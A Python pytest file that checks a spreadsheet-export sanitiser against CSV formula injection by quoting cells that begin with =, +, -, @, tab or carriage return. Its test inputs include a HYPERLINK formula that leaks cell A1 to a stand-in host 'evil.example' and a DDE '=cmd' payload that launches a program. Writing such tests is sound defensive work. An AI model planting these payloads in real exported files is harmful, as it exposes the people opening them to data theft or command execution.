"""Cells a spreadsheet never evaluates (OWASP CSV injection), one row per rule."""

from __future__ import annotations

import pytest

from domain.spreadsheet import cell, row

CASES = [
    ("formula", '=HYPERLINK("http://evil.example/x?"&A1,"click")', "'=HYPERLINK"),
    ("plus", "+1******0123", "'+1******0123"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(A1:A2)", "'@SUM"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage-return", "\r=1+1", "'\r=1+1"),
    ("plain-name", "Ana María", "Ana María"),
    ("inner-equals-is-text", "a=b", "a=b"),
    ("empty", "", ""),
    ("none", None, ""),
    ("number", 42, "42"),
]


@pytest.mark.parametrize(("value", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_cells_that_start_a_formula_are_quoted(value: object, expected: str) -> None:
    assert cell(value).startswith(expected)
    if expected and not expected.startswith("'"):
        assert cell(value) == expected


def test_a_row_is_made_safe_cell_by_cell() -> None:
    assert row(["S1", "=cmd|' /C calc'!A0", None]) == ["S1", "'=cmd|' /C calc'!A0", ""]
